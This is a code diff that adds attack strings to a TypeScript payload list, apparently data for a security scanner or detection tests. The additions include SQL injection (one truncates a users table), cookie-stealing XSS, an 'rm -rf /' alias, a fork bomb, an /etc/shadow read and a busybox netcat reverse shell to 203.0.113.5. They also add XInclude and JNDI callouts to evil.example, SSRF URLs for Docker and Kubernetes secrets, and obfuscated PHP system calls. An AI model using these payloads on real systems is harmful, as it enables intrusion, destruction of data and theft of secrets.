@@ -53,6 +53,13 @@ export const PAYLOADS: Record<Exclude<Family, 'scanner' | 'protocol' | 'session_
     "' OR '' = '",
     "1 OR TRUE",
     "' or 1 in (select @@version)--",
+    '1 AND strcmp(substr(version(),1,1),\'5\')=0',
+    '1\' AND coalesce((SELECT password FROM users LIMIT 1),0)=\'x',
+    '1 AND CASE WHEN (1=1) THEN sleep(5) ELSE 0 END',
+    '1 EXCEPT SELECT 1,2',
+    '1; TRUNCATE users',
+    '1\' OR \'{"a":1}\' @> \'{"a":1}\'-- -',
+    '1 AND ord(mid(user(),1,1))>64',
   ],
   xss: [
     '<script>alert(1)</script>',
@@ -94,6 +101,10 @@ export const PAYLOADS: Record<Exclude<Family, 'scanner' | 'protocol' | 'session_
     '<img src=x:alert(1) onerror=eval(src)>',
     '"-alert(1)-"',
     "';alert(String.fromCharCode(88,83,83))//",
+    '[].sort.call`${alert}1337`',
+    'window[\'alert\'](document[\'cookie\'])',
+    '<svg><x:script>alert(1)</x:script></svg>',
+    '<acp xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="http://evil.example/x"/></acp>',
   ],
   lfi: [
     '../../../../etc/passwd',
@@ -169,6 +180,12 @@ export const PAYLOADS: Record<Exclude<Family, 'scanner' | 'protocol' | 'session_
     '; crontab -l',
     '`cat /etc/issue`',
     "__import__('os').system('id')",
+    'alias ls=\'rm -rf /\'',
+    '{cat,/etc/shadow}',
+    ':(){ :|:& };:',
+    '/usr/bin/id',
+    'busybox nc 203.0.113.5 4444 -e sh',
+    'gunzip -c /var/log/auth.log.gz',
   ],
   php: [
     '<?php system($_GET["c"]); ?>',
@@ -196,6 +213,12 @@ export const PAYLOADS: Record<Exclude<Family, 'scanner' | 'protocol' | 'session_
     'call_user_func("system","id")',
     'create_function("","system(\'id\');")',
     'unserialize($_COOKIE["data"])',
+    '$f=$_GET[1];$f(\'id\');',
+    '${\'_GET\'}[0]($_GET[1])',
+    '(\'sys\'.\'tem\')(\'id\');',
+    'exec /* x */ (\'id\')',
+    'get_defined_vars()[0]',
+    'FOOcall_user_func(\'system\',\'id\')',
   ],
   nodejs: [
     "require('child_process').exec('id')",
@@ -218,6 +241,8 @@ export const PAYLOADS: Record<Exclude<Family, 'scanner' | 'protocol' | 'session_
     '<%= system("id") %>',
     "{% import os %}{{ os.system('id') }}",
     'process.binding("spawn_sync")',
+    'http://host.docker.internal:2375/containers/json',
+    'http://kubernetes.default.svc/api/v1/namespaces/default/secrets',
   ],
   java: [
     '${jndi:ldap://evil.example/a}',
@@ -236,6 +261,8 @@ export const PAYLOADS: Record<Exclude<Family, 'scanner' | 'protocol' | 'session_
     "#{''.getClass().forName('java.lang.Runtime')}",
     'javax.script.ScriptEngineManager',
     'com.sun.rowset.JdbcRowSetImpl',
+    'ProcessBuilder.evil.InvokerTransformer',
+    'Runtime chainedtransformer',
   ],
 };
 
